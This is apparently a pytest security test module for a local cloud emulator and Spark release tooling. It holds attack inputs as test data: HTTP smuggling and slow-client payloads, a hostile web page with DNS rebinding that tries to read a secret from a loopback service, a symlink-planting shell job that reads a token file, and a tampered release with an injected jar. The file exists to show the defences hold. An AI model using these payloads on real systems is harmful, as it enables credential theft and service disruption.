"""Attacks of a web page, another account of the machine or a changed bucket on the local cloud and
its releases.

Each attack succeeded before its defence existed. The scenario `changed_release` tests that the
workflow rejects a changed release; test_deployment.py and test_terraform_apply.py test that gcloud
and Terraform's provider send the token.
"""

from __future__ import annotations

import ast
import http.client
import http.server
import json
import logging
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import Request, urlopen

import pytest
from pyspark.sql import SparkSession

from cli.doctor_checks import folders
from common.errors import CloudRefused, EnvironmentNotReady, ReleaseConflict
from common.logging_setup import add_log_file
from common.private_files import change_owner, private_folder, write_private
from config_spark import Settings, load_settings
from database.connections.secret_manager import with_password
from database.embedded.folders import server_account
from database.embedded.process import recorded_port
from emulator.local import local_cloud
from emulator.services import http_server
from emulator.services.batch_process import LocalPlatform
from emulator.services.fake_secret_manager import FakeSecretManager
from emulator.services.fake_storage import FakeStorage
from emulator.services.http_server import serving
from emulator.services.http_service import Service
from emulator.services.object_store import Conditions
from spark.session import temporary_folder
from tests.support.processes import PROJECT
from tests.support.releases import BUCKET, FIRST, cloud_settings, small_release
from workflows.releases.code_bucket import CodeBucket
from workflows.releases.release import publish_content
from workflows.releases.released_versions import find_release

TOKEN = "the-token-of-this-test"
SECRET = "projects/p/secrets/database-password/versions/1"
PASSWORD = "the-password-of-this-test"
PATH = f"/v1/{SECRET}:access"


@dataclass
class Attacked:
    """A server like the local cloud's; the answer of its service is the database password."""

    url: str
    service: FakeSecretManager

    @property
    def place(self) -> str:
        return urlsplit(self.url).netloc

    def send(self, lines: bytes, body: bytes = b"") -> bytes:
        """Send bytes and return the answer."""
        address = ("127.0.0.1", int(self.place.partition(":")[2]))
        with socket.create_connection(address, timeout=30) as line:
            line.sendall(lines + body)
            answer = b""
            with suppress(ConnectionError):
                while read := line.recv(65536):
                    answer += read
            return answer

    def status(self, *headers: str, target: str = PATH, body: bytes = b"") -> int:
        """Return the status of a POST with these headers."""
        lines = "".join(f"{line}\r\n" for line in (f"POST {target} HTTP/1.1", *headers))
        answer = self.send(lines.encode() + b"Connection: close\r\n\r\n", body)
        return int(answer.split(b" ", 2)[1])

    @property
    def good(self) -> tuple[str, ...]:
        return (f"Host: {self.place}", f"Authorization: Bearer {TOKEN}")


class _AnyMethod(FakeSecretManager):
    """Handler that also answers POST, which a page can send with a body."""

    def __init__(self) -> None:
        super().__init__({SECRET: PASSWORD.encode()})
        self.route("POST", r"/v1/(?P<name>projects/[^:]+):access", self._access)


@pytest.fixture
def attacked() -> Iterator[Attacked]:
    service = _AnyMethod()
    with serving([service], token=TOKEN) as url:
        yield Attacked(url, service)


def test_server_accepts_only_its_token(attacked: Attacked) -> None:
    host = f"Host: {attacked.place}"
    assert attacked.status(*attacked.good) == 200
    attacked.service.requests.clear()
    for headers in (
        (host,),
        (host, "Authorization: Bearer"),
        (host, "Authorization: Bearer wrong"),
        (host, f"Authorization: Basic {TOKEN}"),
        (host, f"Cookie: token={TOKEN}"),
    ):
        assert attacked.status(*headers) == 401, headers
    assert attacked.status(host, target=f"{PATH}?access_token={TOKEN}") == 401
    assert attacked.service.requests == []


def test_rejects_other_hosts_and_browsers_with_a_valid_token(
    attacked: Attacked,
) -> None:
    port, token = attacked.place.partition(":")[2], f"Authorization: Bearer {TOKEN}"
    hosts = ("evil.test", f"evil.test:{port}", f"localhost:{port}", "127.0.0.1", f"[::1]:{port}")
    for host in hosts:
        assert attacked.status(f"Host: {host}", token) == 403, host
    assert attacked.status(token) == 403
    assert attacked.status(*attacked.good, f"Host: evil.test:{port}") == 403
    assert attacked.status(*attacked.good, target=f"http://evil.test:{port}{PATH}") == 403
    assert attacked.status(*attacked.good, target="http://[") == 400
    for header in (
        "Origin: http://evil.test",
        "Origin: null",
        f"Origin: {attacked.url}",
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: same-site",
        "Sec-Fetch-Site: none",
        "sec-fetch-mode: no-cors",
    ):
        assert attacked.status(*attacked.good, header) == 403, header
    assert attacked.service.requests == []


SIZES = (
    ("Content-Length: -1", b"", 400),
    ("Content-Length: abc", b"", 400),
    ("Content-Length: +5", b"12345", 400),
    ("Content-Length: 10000000000", b"x", 413),
    (f"Content-Length: {'9' * 4000}", b"x", 400),
    ("Content-Length: 5\r\nContent-Length: 6", b"12345", 400),
    ("Content-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n", 400),
    ("Transfer-Encoding: gzip, chunked", b"0\r\n\r\n", 400),
    ("Transfer-Encoding: chunked", b"-1\r\n", 400),
    ("Transfer-Encoding: chunked", b"0x5\r\n", 400),
    ("Transfer-Encoding: chunked", b"\r\n", 400),
    ("Transfer-Encoding: chunked", b"1" * 100_000, 400),
    ("Transfer-Encoding: chunked", b"2540be400\r\nx", 413),
    ("Transfer-Encoding: chunked", b"2\r\nabc\r\n0\r\n\r\n", 400),
    ("Transfer-Encoding: chunked", b"0\r\n" + b"trailer: x\r\n" * 1000, 400),
)


def test_rejects_invalid_and_too_large_content_lengths(
    attacked: Attacked, capfd: pytest.CaptureFixture[str]
) -> None:
    for header, body, status in SIZES:
        assert attacked.status(*attacked.good, header, body=body) == status, (header, body[:20])
    assert attacked.status(f"Host: {attacked.place}", "Content-Length: 10000000000") == 401
    assert attacked.service.requests == []
    chunks = b"3;x=y\r\n{} \r\n0\r\nlast: 1\r\n\r\n"
    assert attacked.status(*attacked.good, "Transfer-Encoding: chunked", body=chunks) == 200
    assert "Traceback" not in capfd.readouterr().err


def test_limits_endless_chunked_bodies(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(http_server, "LARGEST_BODY", 1 << 20)
    chunk = b"10000\r\n" + b"x" * (1 << 16) + b"\r\n"
    head = "\r\n".join(("POST /v1/x HTTP/1.1", *attacked.good, "Transfer-Encoding: chunked"))
    sent = 0
    with socket.create_connection(("127.0.0.1", urlsplit(attacked.url).port or 0)) as line:
        line.sendall(f"{head}\r\n\r\n".encode())
        with suppress(ConnectionError):
            while sent < 64 << 20:
                line.sendall(chunk)
                sent += len(chunk)
    assert sent < 32 << 20
    assert attacked.status(*attacked.good) == 200
    assert "Traceback" not in capfd.readouterr().err


SLOW_CLIENTS = 40
PATIENCE_SECONDS = 60


def drip(line: socket.socket) -> bytes:
    """Send a byte every tenth of a second until the server closes the connection.

    Returns: what was answered. Raises: AssertionError after PATIENCE_SECONDS.
    """
    end, answer = time.monotonic() + PATIENCE_SECONDS, b""
    with suppress(ConnectionError):
        while time.monotonic() < end:
            line.sendall(b"x")
            time.sleep(0.1)
            with suppress(BlockingIOError):
                answer += line.recv(65536, socket.MSG_DONTWAIT)
        raise AssertionError(f"the server took one byte after the other, for {PATIENCE_SECONDS} s")
    return answer


@pytest.mark.parametrize("part", ["request line", "header", "body", "chunks", "refused body"])
def test_a_client_that_sends_a_byte_at_a_time_blocks_no_other_and_is_cut_off(
    part: str,
    attacked: Attacked,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """On a server as `local up` has it."""
    head = "".join(f"{line}\r\n" for line in ("POST /v1/x HTTP/1.1", *attacked.good)).encode()
    wrong = head.replace(TOKEN.encode(), b"wrong")
    beginning = {
        "request line": b"GET /",
        "header": head + b"X-Slow: ",
        "body": head + b"Content-Length: 100000\r\n\r\n",
        "chunks": head + b"Transfer-Encoding: chunked\r\n\r\nffff\r\n",
        "refused body": wrong + b"Content-Length: 100000\r\n\r\n",
    }[part]
    address = ("127.0.0.1", urlsplit(attacked.url).port or 0)
    with ExitStack() as stack:
        for _ in range(SLOW_CLIENTS):
            stack.enter_context(socket.create_connection(address)).sendall(beginning)
        assert attacked.status(*attacked.good) == 200
    for name in ("HEADER_SECONDS", "BODY_SECONDS", "DRAIN_SECONDS"):
        monkeypatch.setattr(http_server, name, 1.0)
    with socket.create_connection(address) as line:
        line.sendall(beginning)
        answer = drip(line)
    assert answer[:12] == (b"HTTP/1.1 401" if part == "refused body" else b"")
    assert attacked.status(*attacked.good) == 200
    assert "Traceback" not in capfd.readouterr().err


def test_a_connection_that_waits_between_two_requests_is_served_again(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(http_server, "HEADER_SECONDS", 0.5)
    with closing(http.client.HTTPConnection(attacked.place, timeout=30)) as client:
        for _ in range(2):
            client.request("GET", PATH, headers={"Authorization": f"Bearer {TOKEN}"})
            answer = client.getresponse()
            assert (answer.status, bool(answer.read())) == (200, True)
            time.sleep(0.7)


def test_answers_unexpected_json_without_a_traceback(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    with serving([FakeStorage(tmp_path, ["code"])], token=TOKEN) as url:
        server = Attacked(url, _AnyMethod())
        target = "/upload/storage/v1/b/code/o?uploadType="
        for body in (b"[" * 200_000, b"[1]", b"\xff", b'"text"'):
            size = f"Content-Length: {len(body)}"
            assert server.status(*server.good, size, target=f"{target}resumable", body=body) == 400
        body = b"--b\r\n\r\nno JSON\r\n--b\r\n\r\nx\r\n--b--"
        headers = ("Content-Type: multipart/related; boundary=b", f"Content-Length: {len(body)}")
        assert server.status(*server.good, *headers, target=f"{target}multipart", body=body) == 500
    assert "Traceback" not in capfd.readouterr().err


@pytest.mark.parametrize("kind", ["text/html\r\nset-cookie: a=b", "日本", "a\x00b\x1b[2J"])
def test_content_type_of_an_upload_cannot_inject_headers(
    kind: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    double = FakeStorage(tmp_path, ["code"])
    double.store.write("code", "x", b"content", {"contentType": kind}, Conditions(), {})
    with serving([double], token=TOKEN) as url:
        server = Attacked(url, _AnyMethod())
        lines = ("GET /storage/v1/b/code/o/x?alt=media HTTP/1.1", *server.good, "Connection: close")
        answer = server.send(("\r\n".join(lines) + "\r\n\r\n").encode())
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200")
    assert b"\r\nset-cookie" not in head
    assert b"\x1b" not in head
    assert body == b"content"
    assert "Traceback" not in capfd.readouterr().err


RPC_REQUEST = 3
"""Message type of Spark's network protocol (`Message.java`): a request id of eight bytes, the size
of the body, and the body.
"""


def test_spark_driver_rejects_objects_of_other_accounts(spark: SparkSession) -> None:
    """Deserializing Java objects of other accounts may run their code."""
    body = b"\xac\xed\x00\x05"  # the begin of every serialised object
    message = bytes([RPC_REQUEST]) + struct.pack("!QI", 1, len(body)) + body
    port = int(str(spark.conf.get("spark.driver.port")))
    with socket.create_connection(("127.0.0.1", port), timeout=30) as line:
        line.sendall(struct.pack("!Q", 8 + len(message)) + message)
        assert b"Expected SaslMessage" in line.recv(65536)


@pytest.mark.usefixtures("processes")
def test_requests_are_not_stored(attacked: Attacked, monkeypatch: pytest.MonkeyPatch) -> None:
    source = "from emulator.services.http_service import Service; print(Service.keeps_requests)"
    done = subprocess.run(
        [sys.executable, "-c", source], cwd=PROJECT, capture_output=True, text=True, check=True
    )
    assert done.stdout == "False\n"
    monkeypatch.setattr(Service, "keeps_requests", False)
    assert attacked.status(*attacked.good) == 200
    assert attacked.service.requests == []


def test_every_server_requires_a_token() -> None:
    calls = [
        (path.name, {keyword.arg for keyword in node.keywords})
        for folder in ("workflows", "emulator")
        for path in sorted((PROJECT / folder).rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "serving"
    ]
    assert len(calls) >= 3
    assert [name for name, keywords in calls if "token" not in keywords] == []


def test_change_owner_does_not_follow_links() -> None:
    """An account can replace a name in its own folder by a link at any moment."""
    calls = [
        (path.name, {keyword.arg for keyword in node.keywords})
        for folder in (
            "database",
            "emulator",
            "local_runtime",
            "workflows",
            "common/private_files.py",
        )
        for path in sorted((PROJECT / folder).rglob("*.py")) or [PROJECT / folder]
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "chown"
    ]
    assert len(calls) >= 4
    assert [name for name, keywords in calls if "follow_symlinks" not in keywords] == []


PAGE = """<!doctype html><title>a page</title><script>
const there = "http://PLACE", other = "http://evil.test:PORT", path = "PATH";
const body = "{}", quiet = {mode: "no-cors"};
const tries = [
  () => fetch(there + path).then(answer => answer.text()),
  () => fetch(there + path, quiet),
  () => fetch(there + path, {method: "POST", body, ...quiet}),
  () => fetch(there + path, {method: "POST", body, headers: {Authorization: "Bearer x"}}),
  () => fetch(other + path, quiet),
  () => fetch(other + path, {method: "POST", body, ...quiet}),
  () => new Promise((done, failed) => {
    const script = document.createElement("script");
    script.src = there + path; script.onload = done; script.onerror = failed;
    document.head.append(script);
  }),
  () => new Promise((done, failed) => {
    const image = new Image();
    image.src = there + path; image.onload = done; image.onerror = failed;
  }),
  () => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "frame"; document.body.append(frame);
    const form = document.createElement("form");
    form.action = there + path; form.method = "POST"; form.target = "frame";
    document.body.append(form);
    frame.onload = done; form.submit(); setTimeout(done, 2000);
  }),
];
async function attack() {
  const got = [];
  for (const one of tries)
    try { got.push(String(await one())); } catch (error) { got.push("refused"); }
  await fetch("/done", {method: "POST", body: JSON.stringify(got)});
}
</script><body onload="attack()"></body>"""


class _Page(http.server.BaseHTTPRequestHandler):
    """A hostile web page, and the address that it reports answers to."""

    page = b""
    told: list[str] | None = None

    def do_GET(self) -> None:
        self._answer(type(self).page if self.path == "/" else b"")

    def do_POST(self) -> None:
        type(self).told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, content: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@pytest.mark.usefixtures("processes")
def test_web_page_cannot_reach_a_service(attacked: Attacked, tmp_path: Path) -> None:
    """The page sends all requests that a page can: fetches, a script, an image and a form, to the
    address and to a name that resolves to loopback (DNS rebinding).
    """
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("chromium is not installed: apt install chromium")
    port = attacked.place.partition(":")[2]
    page = PAGE.replace("PLACE", attacked.place).replace("PORT", port).replace("PATH", PATH)
    handler = type("Page", (_Page,), {"page": page.encode(), "told": None})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        command = [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--host-resolver-rules=MAP evil.test 127.0.0.1",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"http://127.0.0.1:{server.server_address[1]}/",
        ]
        quiet = subprocess.DEVNULL
        process = subprocess.Popen(command, stdout=quiet, stderr=quiet, start_new_session=True)
        try:
            until = time.monotonic() + 120
            while handler.told is None and time.monotonic() < until and process.poll() is None:  # type: ignore[attr-defined]
                time.sleep(0.1)
        finally:
            process.terminate()
            process.wait()
            server.shutdown()
    answers = handler.told  # type: ignore[attr-defined]
    assert answers is not None, f"chromium ended with {process.returncode} before the page was done"
    assert len(answers) == 9
    assert not any(PASSWORD in answer or "data" in answer for answer in answers), answers
    assert attacked.service.requests == []


def test_local_cloud_requires_the_token_of_a_private_file(
    database: Settings, tmp_path: Path
) -> None:
    settings = database.model_copy(update={"yieldspark_home": tmp_path / "home"})
    with local_cloud.local_cloud(settings) as cloud:
        token_file = Path(cloud.variables["GOOGLE_API_TOKEN_FILE"])
        assert cloud.variables["CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"] == str(token_file)
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        assert stat.S_IMODE(token_file.parent.stat().st_mode) == 0o700
        paths = [token_file.parent, *token_file.parent.rglob("*")]
        assert [path for path in paths if path.stat().st_mode & 0o077] == []
        token = token_file.read_text()
        assert len(token) >= 32
        assert token not in json.dumps(dict(cloud.variables))
        secret_url = f"{cloud.url}/v1/{cloud.variables['DB_PASSWORD_SECRET']}:access"
        with pytest.raises(HTTPError, match="401"):
            urlopen(secret_url)
        with urlopen(Request(secret_url, headers={"Authorization": f"Bearer {token}"})) as answer:
            assert answer.status == 200
        variables = {name.lower(): value for name, value in cloud.variables.items()}
        assert database.db_password is not None
        assert _password_by(variables) == database.db_password.get_secret_value()
        without = variables | {"google_api_token_file": None}
        with pytest.raises(CloudRefused, match="GOOGLE_API_TOKEN_FILE is not set"):
            _password_by(without)
    assert not token_file.exists()
    with pytest.raises(EnvironmentNotReady, match=r"take the variables that .* prints"):
        _password_by(variables)


def _password_by(variables: Mapping[str, str | None]) -> str:
    """Return the database password that a job with these settings gets."""
    settings = with_password(load_settings(_env_file=None, db_password=None, **variables))
    assert settings.db_password is not None
    return settings.db_password.get_secret_value()


JOB = """
echo $(id -u) $(cat $GOOGLE_API_TOKEN_FILE) $(stat -c %a $GOOGLE_API_TOKEN_FILE)
for name in NAME.driveroutput NAME.errors; do
    rm -f ../$name; ln -s -f $1 ../$name; ln -s $1 $name
done
ln -s $(dirname $1) folder
"""


@pytest.mark.usefixtures("processes")
def test_job_output_does_not_follow_links(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The job is a shell script, because the account may not reach this Python."""
    if os.geteuid() != 0:
        pytest.skip("only root hands a job's folder to another account")
    account = server_account()
    assert account is not None
    monkeypatch.setattr(sys, "executable", "/bin/sh")
    # pytest's own folders are closed to other accounts
    folder = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="yieldspark-attack-"))
    try:
        folder.chmod(0o711)
        secret, entry = folder / "of_root", folder / "entry.sh"
        write_private(secret, PASSWORD)
        entry.write_text(JOB.replace("NAME", "job-1"))
        platform = LocalPlatform(folder, "http://127.0.0.1:1", account, TOKEN)
        job = platform.run_container(entry, [str(secret)], {}, "job-1")
        while job.poll() is None:
            time.sleep(0.02)
        assert job.errors is not None
        assert job.output.read_text() == f"{account.uid} {TOKEN} 600\n"
        assert job.errors.read_text().count("Permission denied") == 4
        for path in (job.output, job.errors):
            assert not path.is_symlink()
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert (secret.read_text(), secret.stat().st_uid) == (PASSWORD, 0)
        assert not (folder / "batches" / "job-1").exists()
    finally:
        shutil.rmtree(folder)


def test_change_owner_excludes_targets_of_links(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root gives files away")
    account = server_account()
    assert account is not None
    secret, other = tmp_path / "of_root", tmp_path / "folder_of_root"
    write_private(secret, PASSWORD)
    private_folder(other)
    write_private(other / "inner", PASSWORD)
    models = private_folder(tmp_path / "models")
    (models / "link").symlink_to(secret)
    (models / "folder").symlink_to(other)
    os.link(secret, models / "second_name")
    (models / "deep").mkdir()
    (models / "deep" / "own").write_text("x")
    change_owner(models, account.uid, account.gid)
    owners = {path.name: path.lstat().st_uid for path in (secret, other, other / "inner")}
    assert owners == {"of_root": 0, "folder_of_root": 0, "inner": 0}
    assert {path.name for path in models.rglob("*")} == {"second_name", "deep", "own"}
    assert (models / "deep" / "own").stat().st_uid == models.stat().st_uid == account.uid


def test_reads_files_of_other_accounts_without_a_second_name(tmp_path: Path) -> None:
    """The account of the batches also owns the embedded server's folder."""
    secret, data = tmp_path / "of_root", private_folder(tmp_path / "data")
    write_private(secret, "1\n2\n3\n5432\n")
    write_private(data / "postmaster.pid", secret.read_text())
    assert recorded_port(data) == 5432
    for replace in (Path.symlink_to, Path.hardlink_to):
        (data / "postmaster.pid").unlink()
        replace(data / "postmaster.pid", secret)
        assert recorded_port(data) is None
    (data / "postmaster.pid").unlink()
    os.mkfifo(data / "postmaster.pid")
    assert recorded_port(data) is None


def test_state_is_private_and_doctor_reports_shared_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    settings = Settings(yieldspark_home=home, report_dir=tmp_path, _env_file=None)
    (home / "logs").mkdir(parents=True)
    (home / "logs" / "yieldspark.log").write_text("of an earlier version\n")
    for path in (home / "logs", home / "logs" / "yieldspark.log"):
        path.chmod(0o755)
    result, message, fix = folders(settings)
    assert (result, str(home / "logs") in message) == ("warn", True)
    assert fix.startswith("chmod -R go= ")
    handlers = list(logging.getLogger().handlers)
    path = add_log_file(settings.yieldspark_home)
    for handler in set(logging.getLogger().handlers) - set(handlers):
        logging.getLogger().removeHandler(handler)
        handler.close()
    modes = [stat.S_IMODE(item.stat().st_mode) for item in (path, path.parent)]
    assert modes == [0o600, 0o700]
    assert folders(settings)[0] == "ok"
    assert stat.S_IMODE(Path(temporary_folder()).stat().st_mode) == 0o700
    home.chmod(0o777)
    assert folders(settings)[0] == "warn"


def test_does_not_submit_a_changed_release(tmp_path: Path) -> None:
    double = FakeStorage(tmp_path, [BUCKET])
    with serving([double]) as url:
        settings = cloud_settings(url)
        publish_content(CodeBucket(settings), small_release(FIRST))
        assert find_release(settings).version == FIRST
        name = f"versions/{FIRST}/yieldspark.zip"
        content = double.store.read(BUCKET, name, Conditions())[1]
        for changed in (content[::-1], content + b"x"):
            double.store.write(BUCKET, name, changed, {"contentType": "x/y"}, Conditions(), {})
            for version in (None, FIRST):
                with pytest.raises(ReleaseConflict, match=r"is incomplete: yieldspark\.zip has"):
                    find_release(settings, version)
        double.store.write(BUCKET, name, content, {"contentType": "x/y"}, Conditions(), {})
        extra = f"versions/{FIRST}/jars/evil.jar"
        double.store.write(BUCKET, extra, b"x", {"contentType": "x/y"}, Conditions(), {})
        with pytest.raises(ReleaseConflict, match=r"evil\.jar is not in the manifest"):
            find_release(settings)
